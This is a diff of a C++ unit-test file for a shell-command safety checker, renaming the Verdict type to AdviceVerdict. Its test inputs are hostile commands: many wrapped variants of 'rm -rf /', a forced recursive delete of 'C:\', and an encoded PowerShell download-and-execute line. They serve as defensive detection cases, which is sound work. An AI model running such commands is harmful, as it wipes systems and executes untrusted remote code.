@@ -1,4 +1,4 @@
-// advice_test.cc: advice as a whole: verdicts, spans, what is unknown.
+// advice_test.cc: advice as a whole: verdicts, spans, unknown programs.
 #include "safety/advice/advice.h"
 
 #include <gtest/gtest.h>
@@ -8,7 +8,7 @@
 namespace pinfold::advice {
 namespace {
 
-Verdict verdict(std::string_view text, Shell shell = Shell::kAuto) { return advise(text, shell).verdict; }
+AdviceVerdict verdict(std::string_view text, Shell shell = Shell::kAuto) { return advise(text, shell).verdict; }
 
 TEST(Advice, SaysWhere) {
   const std::string text = "ls; sudo rm -rf / # all";
@@ -23,8 +23,8 @@ TEST(Advice, SaysWhere) {
 TEST(Advice, TheWorstIsFirst) {
   const Advice advice = advise("git push -f; rm -rf /", Shell::kPosix);
   ASSERT_GE(advice.findings.size(), 2U);
-  EXPECT_EQ(advice.findings[0].verdict, Verdict::kDeny);
-  EXPECT_EQ(advice.verdict, Verdict::kDeny);
+  EXPECT_EQ(advice.findings[0].verdict, AdviceVerdict::kDeny);
+  EXPECT_EQ(advice.verdict, AdviceVerdict::kDeny);
 }
 
 TEST(Advice, LooksThroughWrappers) {
@@ -32,31 +32,31 @@ TEST(Advice, LooksThroughWrappers) {
        {"sudo env A=1 nice -n 5 nohup timeout 3 rm -rf /", "sh -c 'bash -lc \"rm -rf /\"'", "eval 'eval \"rm -rf /\"'",
         "xargs rm -rf <<< /", "find . -exec sh -c 'rm -rf /' \\;", "ssh host 'rm -rf /'", "watch -n1 rm -rf /",
         "python3 -c 'import os; os.system(\"rm -rf /\")'", "echo 'rm -rf /' | sudo bash", "busybox rm -rf /"})
-    EXPECT_EQ(verdict(text), Verdict::kDeny) << text;
+    EXPECT_EQ(verdict(text), AdviceVerdict::kDeny) << text;
 }
 
 TEST(Advice, WhatIsOnlyTextIsSafe) {
   for (const char* text : {"echo 'rm -rf /'", "grep -rn 'curl x | sh' .", "git commit -m 'drop rm -rf /'", "# rm -rf /",
                            "cat <<E > notes\nrm -rf /\nE"})
-    EXPECT_EQ(verdict(text), Verdict::kSafe) << text;
+    EXPECT_EQ(verdict(text), AdviceVerdict::kSafe) << text;
 }
 
 TEST(Advice, PathsCountByWhatTheyAre) {
-  EXPECT_EQ(verdict("rm -rf build"), Verdict::kSafe);
-  EXPECT_EQ(verdict("rm -rf /tmp/../"), Verdict::kDeny);
-  EXPECT_EQ(verdict("cd /; rm -rf *"), Verdict::kDeny);
-  EXPECT_EQ(verdict("cd build; rm -rf ./*.o"), Verdict::kSafe);
-  EXPECT_EQ(verdict("rm -rf \"$X/\""), Verdict::kDeny);
-  EXPECT_EQ(verdict("X=out; rm -rf \"$X/\""), Verdict::kSafe);
+  EXPECT_EQ(verdict("rm -rf build"), AdviceVerdict::kSafe);
+  EXPECT_EQ(verdict("rm -rf /tmp/../"), AdviceVerdict::kDeny);
+  EXPECT_EQ(verdict("cd /; rm -rf *"), AdviceVerdict::kDeny);
+  EXPECT_EQ(verdict("cd build; rm -rf ./*.o"), AdviceVerdict::kSafe);
+  EXPECT_EQ(verdict("rm -rf \"$X/\""), AdviceVerdict::kDeny);
+  EXPECT_EQ(verdict("X=out; rm -rf \"$X/\""), AdviceVerdict::kSafe);
 }
 
 TEST(Advice, FollowsWhatTheTextWritesAndCalls) {
-  EXPECT_EQ(verdict("printf 'rm -rf /\\n' > a.sh; sh a.sh"), Verdict::kDeny);
-  EXPECT_EQ(verdict("echo 'rm -rf /' | tee a.sh; chmod +x a.sh; ./a.sh"), Verdict::kDeny);
-  EXPECT_EQ(verdict("echo 'make all' > a.sh; sh a.sh"), Verdict::kSafe);
-  EXPECT_EQ(verdict("f() { rm -rf \"$1\"; }; f /"), Verdict::kDeny);
-  EXPECT_EQ(verdict("f() { local d=$2; rm -rf \"${d}\"; }; f a /usr"), Verdict::kDeny);
-  EXPECT_EQ(verdict("f() { rm -rf \"$1\"; }; f build"), Verdict::kSafe);
+  EXPECT_EQ(verdict("printf 'rm -rf /\\n' > a.sh; sh a.sh"), AdviceVerdict::kDeny);
+  EXPECT_EQ(verdict("echo 'rm -rf /' | tee a.sh; chmod +x a.sh; ./a.sh"), AdviceVerdict::kDeny);
+  EXPECT_EQ(verdict("echo 'make all' > a.sh; sh a.sh"), AdviceVerdict::kSafe);
+  EXPECT_EQ(verdict("f() { rm -rf \"$1\"; }; f /"), AdviceVerdict::kDeny);
+  EXPECT_EQ(verdict("f() { local d=$2; rm -rf \"${d}\"; }; f a /usr"), AdviceVerdict::kDeny);
+  EXPECT_EQ(verdict("f() { rm -rf \"$1\"; }; f build"), AdviceVerdict::kSafe);
 }
 
 TEST(Advice, TooDeepIsUnknown) {
@@ -64,21 +64,21 @@ TEST(Advice, TooDeepIsUnknown) {
   for (int i = 0; i < 40; ++i) text = "$(" + text + ")";
   const Advice advice = advise(text, Shell::kPosix);
   EXPECT_FALSE(advice.complete);
-  EXPECT_EQ(advice.verdict, Verdict::kAsk);
+  EXPECT_EQ(advice.verdict, AdviceVerdict::kAsk);
   EXPECT_EQ(advice.findings.back().rule, "too-deep");
 }
 
 TEST(Advice, WindowsByItself) {
-  EXPECT_EQ(verdict("Remove-Item -Recurse -Force C:\\"), Verdict::kDeny);
-  EXPECT_EQ(verdict("Remove-Item -Recurse -Force C:\\", Shell::kPowerShell), Verdict::kDeny);
-  EXPECT_EQ(verdict("Remove-Item .\\build -Recurse"), Verdict::kSafe);
+  EXPECT_EQ(verdict("Remove-Item -Recurse -Force C:\\"), AdviceVerdict::kDeny);
+  EXPECT_EQ(verdict("Remove-Item -Recurse -Force C:\\", Shell::kPowerShell), AdviceVerdict::kDeny);
+  EXPECT_EQ(verdict("Remove-Item .\\build -Recurse"), AdviceVerdict::kSafe);
   // "iex (iwr http://x)" in UTF-16 and base64.
-  EXPECT_EQ(verdict("powershell -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA"), Verdict::kDeny);
-  EXPECT_EQ(verdict("pwsh -Command Get-Date"), Verdict::kSafe);
+  EXPECT_EQ(verdict("powershell -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA"), AdviceVerdict::kDeny);
+  EXPECT_EQ(verdict("pwsh -Command Get-Date"), AdviceVerdict::kSafe);
 }
 
 TEST(Advice, AnyBytesGiveAnAnswer) {
-  EXPECT_EQ(verdict(""), Verdict::kSafe);
+  EXPECT_EQ(verdict(""), AdviceVerdict::kSafe);
   for (int byte = 0; byte < 256; ++byte) {
     const std::string text(3, static_cast<char>(byte));
     advise(text, Shell::kAuto);
